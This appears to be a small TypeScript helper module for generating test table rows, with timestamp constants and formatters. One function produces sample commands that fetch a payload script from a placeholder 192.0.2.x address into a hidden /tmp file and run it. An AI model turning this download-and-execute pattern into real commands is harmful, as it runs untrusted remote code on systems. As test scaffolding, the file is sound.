// SPDX-License-Identifier: AGPL-3.0-or-later

export type Row = Readonly<Record<string, string | number | Buffer | null>>;

/** 2026-11-01 UTC, and a month. */
export const FIRST_MS = Date.UTC(2026, 10, 1);
export const MONTH_MS = 30 * 86_400_000;

export const command = (n: number): string => `made-up-tool --fetch http://192.0.2.${n % 256}/payload-${n}.sh --into /tmp/.x --run`;

export const isoOf = (ms: number): string => new Date(ms).toISOString();

/** UTC, without a zone, six digits: as every writer of these tables writes it. */
export const instant = (ms: number): string => `${isoOf(ms).slice(0, 23).replace('T', ' ')}000`;
